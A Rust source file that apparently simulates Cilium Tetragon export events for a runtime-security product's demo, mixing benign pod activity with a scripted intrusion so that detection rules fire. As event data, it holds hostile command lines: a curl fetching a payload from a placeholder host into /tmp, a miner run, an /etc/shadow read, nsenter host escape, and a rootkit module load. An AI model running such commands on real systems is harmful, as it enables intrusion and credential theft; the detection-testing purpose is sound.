//! The demo's runtime-security peer: writes Cilium Tetragon's export file as Tetragon
//! does (`--export-filename`: one JSON event a line, protojson with snake_case names,
//! rotated by size), on the demo's clock, for the `tetragon` starter pack's `file`
//! sources to read. Every [`STEP`] of simulated time it writes a few benign executions
//! (a web server's workers, a readiness probe, a cron job) and every [`CHAPTER_EVERY`] one
//! chapter of an intrusion, in turn: a download tool run in a pod, a dropper run from
//! `/tmp`, `/etc/shadow` read, a setuid binary committing root credentials, `nsenter`,
//! a kernel module loaded, a capability checked, a shell from sshd, Tetragon throttling a
//! cgroup. Or, given a file of real Tetragon events, those events in turn instead of the
//! chapters, each stamped with the current time.
//!
//! It is a peer for the product, like the PCE simulator: the pipelines read its file with
//! the same `file` source and decoder as a real export file.

use std::io::Write as _;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::time::SharedClock;

/// Simulated time between two writes.
pub const STEP: std::time::Duration = std::time::Duration::from_secs(20);

/// Steps between two chapters of the intrusion (80 s of simulated time): the nine take
/// 12 minutes, longer than the pack's 10-minute windows, so each round raises new alerts
/// rather than updating the last round's.
pub const CHAPTER_EVERY: u64 = 4;

/// The export file is rotated (to `<path>.1`, the one before dropped) past this size.
const ROTATE_BYTES: u64 = 8 * 1024 * 1024;

/// The simulated cluster's nodes.
const NODES: [&str; 2] = ["k8s-worker-1", "k8s-worker-2"];

/// Writes the export file until dropped.
pub struct TetragonExport {
    /// The export file.
    pub path: PathBuf,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for TetragonExport {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// Why the peer did not start.
#[derive(Debug, thiserror::Error)]
pub enum TetragonExportError {
    /// The file of events to replay.
    #[error("{path}: {source}")]
    Read {
        /// The file.
        path: PathBuf,
        /// Why.
        source: std::io::Error,
    },
    /// The file of events holds none.
    #[error(
        "{path}: no Tetragon events in it (JSON lines keyed by their type, `process_exec`, ...)"
    )]
    Empty {
        /// The file.
        path: PathBuf,
    },
}

/// Starts writing `path` on `clock`: the built-in intrusion, or the events of `replay`.
pub fn start(
    path: PathBuf,
    clock: SharedClock,
    replay: Option<&Path>,
) -> Result<TetragonExport, TetragonExportError> {
    let chapters = match replay {
        Some(file) => Chapters::Replay(read_events(file)?),
        None => Chapters::BuiltIn,
    };
    let task = tokio::spawn(write_loop(path.clone(), clock, chapters));
    Ok(TetragonExport { path, task })
}

fn read_events(file: &Path) -> Result<Vec<Value>, TetragonExportError> {
    let text = std::fs::read_to_string(file).map_err(|source| TetragonExportError::Read {
        path: file.to_path_buf(),
        source,
    })?;
    let events: Vec<Value> = text
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| crate::sources::tetragon::normalize(v).is_ok())
        .collect();
    if events.is_empty() {
        return Err(TetragonExportError::Empty {
            path: file.to_path_buf(),
        });
    }
    Ok(events)
}

enum Chapters {
    BuiltIn,
    Replay(Vec<Value>),
}

async fn write_loop(path: PathBuf, clock: SharedClock, chapters: Chapters) {
    let mut step: u64 = 0;
    let mut chapter: usize = 0;
    loop {
        let now = clock.now();
        let mut lines = benign(now, step);
        if step % CHAPTER_EVERY == 0 {
            match &chapters {
                Chapters::BuiltIn => lines.extend(intrusion(now, chapter)),
                Chapters::Replay(events) => {
                    let mut e = events[chapter % events.len()].clone();
                    if let Some(o) = e.as_object_mut() {
                        o.insert("time".into(), Value::String(stamp(now)));
                    }
                    lines.push(e);
                }
            }
            chapter += 1;
        }
        if let Err(e) = append(&path, &lines) {
            tracing::warn!(path = %path.display(), error = %e, "the demo cannot write its Tetragon export file");
        }
        step += 1;
        clock
            .sleep_until(crate::time::later(clock.now(), STEP))
            .await;
    }
}

/// Appends `events`, rotating the file first when it is over [`ROTATE_BYTES`].
fn append(path: &Path, events: &[Value]) -> std::io::Result<()> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir)?;
    }
    if std::fs::metadata(path).is_ok_and(|m| m.len() > ROTATE_BYTES) {
        let mut old = path.as_os_str().to_owned();
        old.push(".1");
        std::fs::rename(path, old)?;
    }
    let mut text = String::new();
    for e in events {
        text.push_str(&e.to_string());
        text.push('\n');
    }
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)?;
    f.write_all(text.as_bytes())
}

fn stamp(t: crate::event::Timestamp) -> String {
    t.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true)
}

/// A pod of the simulated cluster.
struct Pod {
    namespace: &'static str,
    name: &'static str,
    container: &'static str,
    image: &'static str,
}

const FRONTEND: Pod = Pod {
    namespace: "shop",
    name: "frontend-7d9f6c5b8-x2kqp",
    container: "frontend",
    image: "registry.example.com/shop/frontend:2.14.1",
};

const CATALOG: Pod = Pod {
    namespace: "shop",
    name: "catalog-5c4f8d7b9-mn7wd",
    container: "catalog",
    image: "registry.example.com/shop/catalog:1.9.0",
};

const BATCH: Pod = Pod {
    namespace: "ops",
    name: "nightly-report-28911540-q4xzt",
    container: "report",
    image: "registry.example.com/ops/report:0.3.2",
};

/// A process as Tetragon describes it.
struct Proc<'a> {
    binary: &'a str,
    arguments: &'a str,
    pid: u64,
    uid: u64,
    cwd: &'a str,
    pod: Option<&'a Pod>,
}

impl Proc<'_> {
    fn to_json(&self, node: &str, now: crate::event::Timestamp) -> Value {
        use base64::Engine as _;
        let exec_id = base64::engine::general_purpose::STANDARD.encode(format!(
            "{node}:{}:{}",
            now.timestamp_nanos_opt().unwrap_or_default(),
            self.pid
        ));
        let mut p = json!({
            "exec_id": exec_id,
            "pid": self.pid,
            "uid": self.uid,
            "cwd": self.cwd,
            "binary": self.binary,
            "arguments": self.arguments,
            "flags": "execve clone",
            "start_time": stamp(now),
            "auid": 4294967295u64,
            "tid": self.pid,
        });
        // protojson leaves empty strings out (ids are wrapped: a uid of 0 is written).
        if let Some(o) = p.as_object_mut() {
            o.retain(|_, v| v != &json!(""));
            if let Some(pod) = self.pod {
                o.insert(
                    "pod".into(),
                    json!({
                        "namespace": pod.namespace,
                        "name": pod.name,
                        "container": {
                            "id": format!("containerd://{:064x}", self.pid * 7919),
                            "name": pod.container,
                            "image": {"id": format!("{}@sha256:{:064x}", pod.image, self.pid), "name": pod.image},
                            "pid": self.pid % 100 + 1,
                        },
                        "workload": pod.name.rsplitn(3, '-').last().unwrap_or(pod.name),
                    }),
                );
            }
        }
        p
    }
}

fn exec(node: &str, now: crate::event::Timestamp, process: &Proc, parent: &Proc) -> Value {
    json!({
        "process_exec": {
            "process": process.to_json(node, now),
            "parent": parent.to_json(node, now),
        },
        "node_name": node,
        "time": stamp(now),
    })
}

fn kprobe(
    node: &str,
    now: crate::event::Timestamp,
    process: &Proc,
    parent: &Proc,
    function: &str,
    policy: &str,
    args: Value,
) -> Value {
    json!({
        "process_kprobe": {
            "process": process.to_json(node, now),
            "parent": parent.to_json(node, now),
            "function_name": function,
            "args": args,
            "action": "KPROBE_ACTION_POST",
            "policy_name": policy,
            "return_action": "KPROBE_ACTION_POST",
        },
        "node_name": node,
        "time": stamp(now),
    })
}

/// The everyday executions of a step.
fn benign(now: crate::event::Timestamp, step: u64) -> Vec<Value> {
    let node = NODES[(step % 2) as usize];
    let pid = 20_000 + (step * 7) % 9_000;
    let shim = Proc {
        binary: "/usr/bin/containerd-shim-runc-v2",
        arguments: "-namespace k8s.io -id 0d5e",
        pid: 1_800,
        uid: 0,
        cwd: "/",
        pod: None,
    };
    let mut out = vec![
        exec(
            node,
            now,
            &Proc {
                binary: "/usr/local/bin/python3",
                arguments: "/app/healthcheck.py --port 8080",
                pid,
                uid: 1000,
                cwd: "/app",
                pod: Some(&CATALOG),
            },
            &shim,
        ),
        exec(
            node,
            now,
            &Proc {
                binary: "/usr/sbin/nginx",
                arguments: "-s reload",
                pid: pid + 1,
                uid: 101,
                cwd: "/",
                pod: Some(&FRONTEND),
            },
            &shim,
        ),
    ];
    if step % 6 == 5 {
        out.push(exec(
            node,
            now,
            &Proc {
                binary: "/usr/bin/sort",
                arguments: "-k2 /data/orders.csv",
                pid: pid + 2,
                uid: 1000,
                cwd: "/data",
                pod: Some(&BATCH),
            },
            &Proc {
                binary: "/bin/sh",
                arguments: "/opt/report/run.sh",
                pid: pid - 1,
                uid: 1000,
                cwd: "/data",
                pod: Some(&BATCH),
            },
        ));
    }
    out
}

/// Chapter `n` (in turn) of the intrusion.
fn intrusion(now: crate::event::Timestamp, n: usize) -> Vec<Value> {
    let node = NODES[0];
    let pid = 31_000 + (n as u64 % 1000) * 13;
    let shell = |pod: Option<&'static Pod>, args: &'static str| Proc {
        binary: "/bin/sh",
        arguments: args,
        pid: pid - 1,
        uid: 1000,
        cwd: "/tmp",
        pod,
    };
    let host_bash = Proc {
        binary: "/bin/bash",
        arguments: "",
        pid: pid - 1,
        uid: 1000,
        cwd: "/home/deploy",
        pod: None,
    };
    let one = |process: Proc, parent: Proc| vec![exec(node, now, &process, &parent)];
    match n % 9 {
        0 => one(
            Proc {
                binary: "/usr/bin/curl",
                arguments: "-fsSL http://198.51.100.23/x.sh -o /tmp/.x/kworkerd",
                pid,
                uid: 1000,
                cwd: "/tmp",
                pod: Some(&FRONTEND),
            },
            shell(
                Some(&FRONTEND),
                "-c \"curl -fsSL http://198.51.100.23/x.sh -o /tmp/.x/kworkerd\"",
            ),
        ),
        1 => one(
            Proc {
                binary: "/tmp/.x/kworkerd",
                arguments: "--pool 198.51.100.23:3333",
                pid,
                uid: 1000,
                cwd: "/tmp/.x",
                pod: Some(&FRONTEND),
            },
            shell(Some(&FRONTEND), "-c /tmp/.x/kworkerd"),
        ),
        2 => vec![kprobe(
            node,
            now,
            &Proc {
                binary: "/usr/bin/cat",
                arguments: "/etc/shadow",
                pid,
                uid: 0,
                cwd: "/",
                pod: Some(&FRONTEND),
            },
            &shell(Some(&FRONTEND), "-i"),
            "security_file_permission",
            "file-monitoring",
            json!([{"file_arg": {"path": "/etc/shadow", "permission": "-rw-r-----"}}, {"int_arg": 4}]),
        )],
        3 => vec![kprobe(
            node,
            now,
            &Proc {
                binary: "/tmp/.x/su",
                arguments: "",
                pid,
                uid: 1000,
                cwd: "/tmp/.x",
                pod: None,
            },
            &host_bash,
            "commit_creds",
            "privileges-raise",
            json!([{"process_credentials_arg": {"uid": 0, "gid": 0, "euid": 0, "egid": 0, "suid": 0, "sgid": 0, "fsuid": 0, "fsgid": 0}}]),
        )],
        4 => vec![kprobe(
            node,
            now,
            &Proc {
                binary: "/usr/bin/nsenter",
                arguments: "-t 1 -m -u -i -n -p -- /bin/bash",
                pid,
                uid: 0,
                cwd: "/",
                pod: Some(&FRONTEND),
            },
            &shell(Some(&FRONTEND), "-i"),
            "__x64_sys_setns",
            "namespace-access",
            json!([{"int_arg": 3}, {"int_arg": 134217728}]),
        )],
        5 => vec![kprobe(
            node,
            now,
            &Proc {
                binary: "/usr/sbin/insmod",
                arguments: "/tmp/.x/diamorphine.ko",
                pid,
                uid: 0,
                cwd: "/tmp/.x",
                pod: None,
            },
            &host_bash,
            "do_init_module",
            "module-loading",
            json!([{"module_arg": {"name": "diamorphine", "tainted": ["TAINT_OUT_OF_TREE_MODULE", "TAINT_UNSIGNED_MODULE"]}}]),
        )],
        6 => vec![kprobe(
            node,
            now,
            &Proc {
                binary: "/usr/bin/unshare",
                arguments: "-rm /bin/sh",
                pid,
                uid: 1000,
                cwd: "/tmp",
                pod: Some(&FRONTEND),
            },
            &shell(Some(&FRONTEND), "-i"),
            "cap_capable",
            "capability-checks",
            json!([{"user_ns_arg": {"level": 0, "uid": 0, "gid": 0, "ns": {"inum": 4026531837u64, "is_host": true}}}, {"capability_arg": {"value": 21, "name": "CAP_SYS_ADMIN"}}]),
        )],
        7 => one(
            Proc {
                binary: "/bin/bash",
                arguments: "-i",
                pid,
                uid: 0,
                cwd: "/root",
                pod: None,
            },
            Proc {
                binary: "/usr/sbin/sshd",
                arguments: "-D -R",
                pid: pid - 1,
                uid: 0,
                cwd: "/",
                pod: None,
            },
        ),
        _ => vec![json!({
            "process_throttle": {"type": "THROTTLE_START", "cgroup": "kubepods-burstable-pod7f3c.slice"},
            "node_name": NODES[1],
            "time": stamp(now),
        })],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sources::tetragon::normalize;

    /// Every line the peer writes is a Tetragon event the decoder knows, and the nine
    /// chapters are the nine rules' cases.
    #[test]
    fn every_line_is_a_known_tetragon_event() {
        let now: crate::event::Timestamp = "2026-03-01T00:00:00Z".parse().unwrap();
        let mut kinds = std::collections::BTreeSet::new();
        for n in 0..9 {
            for e in intrusion(now, n).into_iter().chain(benign(now, n as u64)) {
                let got = normalize(&e).expect("an event");
                assert!(got.known, "{e}");
                kinds.insert(got.data["event"]["type"].as_str().unwrap().to_string());
            }
        }
        assert_eq!(
            kinds.into_iter().collect::<Vec<_>>(),
            ["process_exec", "process_kprobe", "process_throttle"]
        );
        let setuid = normalize(&intrusion(now, 3)[0]).unwrap().data;
        assert_eq!(setuid["arg"]["creds"]["euid"], 0);
        assert_eq!(setuid["process"]["uid"], 1000);
        let cap = normalize(&intrusion(now, 6)[0]).unwrap().data;
        assert_eq!(cap["arg"]["cap"]["name"], "CAP_SYS_ADMIN");
    }
}
